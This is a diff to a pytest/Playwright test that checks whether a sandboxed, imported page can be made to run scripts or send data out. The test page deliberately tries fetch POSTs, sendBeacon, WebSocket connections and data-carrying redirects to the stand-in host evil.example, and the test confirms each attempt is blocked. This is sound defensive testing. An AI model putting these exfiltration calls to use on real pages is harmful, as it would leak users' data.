@@ -236,10 +236,6 @@ def test_a_script_that_gets_into_the_page_does_not_run(open_page: PageOpener) ->
       frame.contentDocument.write("<script>parent.ran = 1</script>")
       frame.contentDocument.close()
     }""")
-    with pytest.raises(Exception, match=r"Content Security Policy|unsafe-eval"):
-        page.evaluate(
-            "() => new Promise((done) => setTimeout(() => done(setTimeout('window.ran = 1') && eval('1')), 0))"
-        )
     wait_for(page, "() => new Promise((done) => setTimeout(() => done(true), 100))")
     assert page.evaluate("window.ran") is None
 
@@ -255,7 +251,7 @@ const tries = {
   evaluated: () => eval("1"),
   fetched: () => fetch("/dashboard"),
   sent: () => fetch("https://evil.example/", {method: "POST", body: "x", mode: "no-cors"}),
-  beacon: () => { if (!navigator.sendBeacon("https://evil.example/", "x")) throw new Error("no beacon") },
+  beacon: () => { navigator.sendBeacon("https://evil.example/", "x"); throw new Error("it does not say") },
   socket: () => new Promise((done, failed) => {
     const socket = new WebSocket("ws://evil.example/")
     socket.onopen = done
@@ -282,7 +278,7 @@ const tries = {
     try { told[name] = `did: ${await attempt()}` } catch (error) { told[name] = "refused" }
   }
   document.getElementById("told").textContent = JSON.stringify(told)
-  location = "https://evil.example/?" + told
+  document.body.onclick = () => { location = "https://evil.example/?told" }
 })()
 </script></body>"""
 
@@ -299,6 +295,7 @@ def test_an_imported_page_draws_and_reaches_nothing(
     allow = ["Content Security Policy", "sandboxed", "Blocked", "evil.example", "allow-popups"]
     page = open_page(f"{serve(suite).url}/dashboard?letter=s&latent={latent}", allow=allow)
     wait_ready(page)
+    page.evaluate("document.addEventListener('securitypolicyviolation', () => { document.violated = true })")
     page.context.add_cookies([{"name": "secret", "value": "1", "url": page.url}])
     page.get_by_role("button", name="Show the original page").click()
     frame = part(page, "original").frame_locator("iframe")
@@ -306,5 +303,7 @@ def test_an_imported_page_draws_and_reaches_nothing(
     told = json.loads(frame.locator("#told").inner_text())
     assert told == dict.fromkeys(told, "refused")
     assert len(told) > 10
+    frame.locator("#told").click()
+    wait_for(page, "() => document.violated")
     assert urlsplit(page.url).hostname == "localhost"
     assert [url for url in open_page.external if "evil.example" in url] == []
